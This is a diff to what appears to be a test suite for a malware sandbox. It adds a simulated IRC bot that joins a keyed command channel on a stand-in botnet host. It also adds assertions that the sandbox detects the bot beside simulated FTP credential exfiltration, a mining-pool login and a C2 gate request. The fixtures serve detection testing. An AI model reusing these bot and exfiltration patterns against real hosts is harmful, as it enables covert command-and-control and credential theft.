@@ -121,6 +121,17 @@ try:
   f.storbinary('STOR PW_devbox.txt', io.BytesIO(b'chrome: admin / letmein'))
   f.quit()
 except Exception as e: print('ftp:', e)
+try:
+  b = socket.create_connection(('irc.botnet.example.test', 6667), timeout=5)
+  b.sendall(b'NICK [x86]a1\\r\\nUSER a1 0 * :a1\\r\\n')
+  lines = b.makefile('rb')
+  for l in lines:
+    if b' 376 ' in l: break
+  b.sendall(b'JOIN #cmd k3y\\r\\nQUIT\\r\\n')
+  for l in lines:
+    if l.startswith(b'ERROR'): break
+  b.close()
+except Exception as e: print('irc:', e)
 s.sendall(b'{\\"id\\":1,\\"jsonrpc\\":\\"2.0\\",\\"method\\":\\"login\\",\\"params\\":{\\"login\\":\\"4AbC\\",\\"pass\\":\\"x\\",\\"agent\\":\\"XMRig/6.21.0\\"}}\\n')
 s.close()
 print('gate:', urllib.request.urlopen('http://c2.example.test/gate.php?id=1', timeout=5).status)
@@ -169,6 +180,10 @@ print('gate:', urllib.request.urlopen('http://c2.example.test/gate.php?id=1', ti
     const upload = r.sessions?.find((c) => c.protocol === 'ftp');
     assert.deepEqual(upload && [upload.domain, upload.port, upload.ftp], ['ftp.example.test', 21, { user: 'ops', password: 'ftp-pw', files: [{ command: 'STOR', path: 'PW_devbox.txt' }], uploads: 1, downloads: 0 }], JSON.stringify(r.sessions));
     assert.ok(r.sessions?.some((c) => c.domain === 'ftp.example.test' && c.protocol === 'other' && c.preview === 'chrome: admin / letmein'), JSON.stringify(r.sessions));
+    // an IRC bot: welcomed by the catch-all as an IRC server, it joined its channel with the key
+    const bot = r.sessions?.find((c) => c.protocol === 'irc');
+    assert.deepEqual(bot && [bot.domain, bot.port, bot.irc?.nick, bot.irc?.channels], ['irc.botnet.example.test', 6667, '[x86]a1', [{ name: '#cmd', key: 'k3y' }]], JSON.stringify(r.sessions));
+    assert.match(r.findings.find((f) => f.rule === 'ST-C2-019')?.output ?? '', /^IRC session \(nick=\[x86\]a1 user=a1 channels=#cmd k3y .*domain=irc\.botnet\.example\.test process=python3 /);
     assert.match(r.findings.find((f) => f.rule === 'ST-EXF-004')?.output ?? '', /^FTP upload \(files=PW_devbox\.txt uploads=1 user=ops password=ftp-pw server=ftp\.example\.test .*process=python3 /);
     // clients that check certificates against the system's CAs (curl with OpenSSL, wget with GnuTLS)
     // trust the sandbox's authority, which issued one for the very name: read in the clear too; a
@@ -199,9 +214,9 @@ print('gate:', urllib.request.urlopen('http://c2.example.test/gate.php?id=1', ti
     assert.ok(ind && ['c2.example.test', 'gulf.moneroocean.stream', 'smtp.example.test', 'ftp.example.test'].every((d) => ind.domains.includes(d)), JSON.stringify(ind));
     assert.ok(ind.endpoints.includes('203.0.113.7:5000') && ind.endpoints.includes('203.0.113.9:7000') && !ind.endpoints.some((e) => e.startsWith('198.18.') || e.startsWith('192.0.2.53')), JSON.stringify(ind.endpoints));
     assert.ok(ind.urls.includes('http://c2.example.test/gate.php?id=1') && ind.urls.includes('https://secure.example.test/api/beacon'), JSON.stringify(ind.urls));
-    assert.deepEqual(ind.accounts, [{ protocol: 'smtp', user: 'logs@mail.example.test', password: 'Hunter2!' }, { protocol: 'ftp', user: 'ops', password: 'ftp-pw' }]);
+    assert.deepEqual(ind.accounts, [{ protocol: 'smtp', user: 'logs@mail.example.test', password: 'Hunter2!' }, { protocol: 'ftp', user: 'ops', password: 'ftp-pw' }, { protocol: 'irc', user: '#cmd', password: 'k3y' }]);
     assert.match(html, /<h2 id="indicators">Indicators<\/h2>[\s\S]*<div class="argv">203\.0\.113\.7:5000<\/div>/);
-    assert.match(html, /Connections caught in the sandbox \(11\)[\s\S]*GET \/gate\.php\?id=1/);
+    assert.match(html, /Connections caught in the sandbox \(12\)[\s\S]*GET \/gate\.php\?id=1/);
     assert.match(html, /POST \/api\/beacon · Host: secure\.example\.test · User-Agent: implant\/2\.1 · body 4 bytes, sha256 [0-9a-f]{64}: id=7<\/span><div class="muted small">server name secure\.example\.test · decrypted \(the sample accepted the sandbox's certificate\)<\/div><\/td><td>\d+ <span class="muted small">\(\d+ in the clear\)/);
     assert.match(html, /<td>smtp<\/td><td><span class="argv">mail from promo@shop\.example\.test to victim@example\.test · Subject: You won · HELO [^<]* · logged in as logs@mail\.example\.test \(AUTH PLAIN, password Hunter2!\)<\/span><div class="muted small">STARTTLS: decrypted/);
     assert.match(html, /server name pinned\.example\.test<\/span><div class="muted small">handshake completed, then nothing sent through it \(a sample that pins its server's key refuses the certificate only then\)/);
